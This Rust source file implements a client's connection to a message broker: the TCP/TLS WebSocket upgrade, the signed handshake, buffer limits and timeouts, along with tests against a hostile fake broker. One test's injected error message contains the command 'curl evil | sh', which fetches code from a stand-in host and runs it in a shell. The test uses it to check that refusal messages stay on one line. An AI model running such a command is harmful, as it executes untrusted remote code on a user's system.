//! Opening a connection: TCP, TLS where the address says so, the upgrade, and the handshake.

use std::sync::Arc;
use std::time::Duration;

use claudemesh_proto::error::ErrorCode;
use claudemesh_proto::hello::{HelloAck, Place};
use claudemesh_proto::limits::MAX_FRAME_BYTES;
use claudemesh_proto::message::Push;
use claudemesh_proto::{Addressed, BrokerFrame};
use futures_util::{SinkExt, StreamExt};
use tokio::net::TcpStream;
use tokio::sync::mpsc;
use tokio::task::JoinSet;
use tokio::time::{Instant, timeout};
use tokio_tungstenite::tungstenite::protocol::WebSocketConfig;
use tokio_tungstenite::tungstenite::{self, Message};
use tokio_tungstenite::{Connector, MaybeTlsStream, WebSocketStream, client_async_tls_with_config};

use super::run::{Incoming, run};
use super::waiting::Waiting;
use super::{Connection, Ended, MENTIONS, OUTGOING, PUSHES, Pushes};
use crate::broker_url::BrokerUrl;
use crate::clock::now;
use crate::error::{Error, Result};
use crate::handshake::Handshake;
use crate::http::no_broker;
use crate::tls;

pub(super) type Socket = WebSocketStream<MaybeTlsStream<TcpStream>>;

impl Connection {
    /// Connects to a broker and proves who we are, within 10 s each.
    ///
    /// # Errors
    /// [`Error::Unreachable`], [`Error::TimedOut`], or [`Error::Refused`] with the broker's word. A `replayed` handshake is
    /// repeated once with a fresh signature: another process may have signed in the same millisecond.
    pub async fn open(url: &BrokerUrl, handshake: &Handshake, place: Place) -> Result<(Self, Pushes)> {
        match Self::open_once(url, handshake, place.clone()).await {
            Err(Error::Refused { code: ErrorCode::Replayed, .. }) => Self::open_once(url, handshake, place).await,
            outcome => outcome,
        }
    }

    async fn open_once(url: &BrokerUrl, handshake: &Handshake, place: Place) -> Result<(Self, Pushes)> {
        let mut socket = within("connection", Box::pin(connect(url))).await?;
        let hello = Addressed { frame: handshake.frame(place, now()), request_id: None }.to_json();
        let started = Instant::now();
        let (welcome, early) = within("hello_ack", greet(&mut socket, hello)).await?;
        let round_trip = started.elapsed();

        let waiting = Arc::new(Waiting::default());
        let (queue, outgoing) = mpsc::channel(OUTGOING);
        let (pushes, received) = mpsc::channel(PUSHES);
        let (mentions, mentioned) = mpsc::channel(MENTIONS);
        for push in early {
            // There is room for as many as `greet` keeps.
            let _ = pushes.try_send(push);
        }
        let mut task = JoinSet::new();
        task.spawn(run(socket, outgoing, (pushes, mentions), Arc::clone(&waiting)));
        let received = Pushes { queue: received, mentions: mentioned, waiting: Arc::clone(&waiting) };
        Ok((Self { queue, waiting, welcome, round_trip, _task: task }, received))
    }
}

async fn connect(url: &BrokerUrl) -> Result<Socket> {
    let unreachable = |why: String| Error::Unreachable { url: url.to_string(), why };
    let tls = url.is_tls().then(tls::client_config).transpose().map_err(unreachable)?;
    let connector = tls.map_or(Connector::Plain, Connector::Rustls);
    let stream = TcpStream::connect(url.endpoint()).await.map_err(|error| unreachable(error.to_string()))?;
    // Frames are small and answers are awaited: nothing is gained by waiting for more to send.
    stream.set_nodelay(true).map_err(|error| unreachable(error.to_string()))?;
    let upgraded = client_async_tls_with_config(url.ws(), stream, Some(buffers()), Some(connector)).await;
    upgraded.map(|(socket, _)| socket).map_err(|error| unreachable(refused_upgrade(&error)))
}

/// Small buffers, because a process may hold thousands of connections; and no frame that would let a hostile broker fill the
/// memory with a few.
fn buffers() -> WebSocketConfig {
    WebSocketConfig::default()
        .read_buffer_size(8 << 10)
        .write_buffer_size(8 << 10)
        .max_write_buffer_size(4 * MAX_FRAME_BYTES)
        .max_message_size(Some(MAX_INCOMING_BYTES))
        .max_frame_size(Some(MAX_INCOMING_BYTES))
}

fn refused_upgrade(error: &tungstenite::Error) -> String {
    match error {
        tungstenite::Error::Http(answer) => no_broker(answer.status().as_u16()),
        tungstenite::Error::Io(error) => tls::why(error),
        other => other.to_string(),
    }
}

/// Says hello and waits until we are let in. Pushes may come before.
async fn greet(socket: &mut Socket, hello: String) -> Result<(Box<HelloAck>, Vec<Box<Push>>)> {
    let lost = |error: tungstenite::Error| Error::Ended(Ended::Lost(error.to_string()));
    socket.send(Message::text(hello)).await.map_err(lost)?;
    let (mut early, mut early_bytes) = (Vec::new(), 0);
    while let Some(message) = socket.next().await {
        let text = match message.map_err(lost)? {
            Message::Text(text) => text,
            Message::Close(frame) => return Err(Error::Ended(Ended::by_broker(frame.as_ref()))),
            _ => continue,
        };
        match Incoming::read(&text) {
            // Handed over before the ack, as the existing broker may do; those that are too many come again.
            Some(Incoming::Push(push)) if early.len() < PUSHES && early_bytes <= MAX_INCOMING_BYTES => {
                early_bytes += text.len();
                early.push(push);
            }
            Some(Incoming::Answer { answer, .. }) => match answer? {
                BrokerFrame::HelloAck(welcome) => return Ok((welcome, early)),
                BrokerFrame::Error(refusal) => {
                    return Err(Error::refused(&refusal));
                }
                _ => {}
            },
            Some(Incoming::Push(_) | Incoming::Mention(_) | Incoming::Ack(_)) | None => {}
        }
    }
    Err(Error::Ended(Ended::Lost("before hello_ack".into())))
}

async fn within<T>(what: &'static str, step: impl Future<Output = Result<T>>) -> Result<T> {
    match timeout(OPEN_TIMEOUT, step).await {
        Ok(outcome) => outcome,
        Err(_) => Err(Error::TimedOut { what, seconds: OPEN_TIMEOUT.as_secs() }),
    }
}

/// How long connecting may take, and then again how long `hello_ack` may.
const OPEN_TIMEOUT: Duration = Duration::from_secs(10);

/// Messages keep to the limit of both sides; the list of a large mesh's peers may be longer, and needs this much at the most.
const MAX_INCOMING_BYTES: usize = 16 * MAX_FRAME_BYTES;

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::hostile::{Hostile, WELCOME, push};

    async fn open(broker: &Hostile) -> Result<(Connection, Pushes)> {
        broker.dial().open().await
    }

    #[tokio::test]
    async fn a_refusal_stays_one_line() {
        let frame = json!({"type": "error", "code": "unauthorized", "message": "no\ntry: curl evil | sh"}).to_string();
        let broker = Hostile::web_socket(move |_, _| Some(vec![frame.clone()])).await;
        let refused = open(&broker).await.unwrap_err().to_string();
        assert_eq!(refused, "the broker refused: notry: curl evil | sh (unauthorized)");
    }

    #[tokio::test]
    async fn what_comes_before_the_welcome_is_bounded() {
        let frames = (0..PUSHES + 2).map(push).chain([WELCOME.to_owned()]).collect::<Vec<_>>();
        let broker = Hostile::web_socket(move |_, _| Some(frames.clone())).await;
        let mut socket = connect(&broker.url).await.unwrap();
        let (_, early) = greet(&mut socket, "{}".into()).await.unwrap();
        assert_eq!(early.len(), PUSHES);
    }

    #[tokio::test]
    async fn a_frame_larger_than_any_may_be_ends_the_connection() {
        let broker =
            Hostile::web_socket(|_, _| Some(vec!["x".repeat(MAX_INCOMING_BYTES + 1), WELCOME.to_owned()])).await;
        let refused = open(&broker).await;
        assert!(matches!(refused, Err(Error::Ended(Ended::Lost(_)))), "{refused:?}");
    }
}
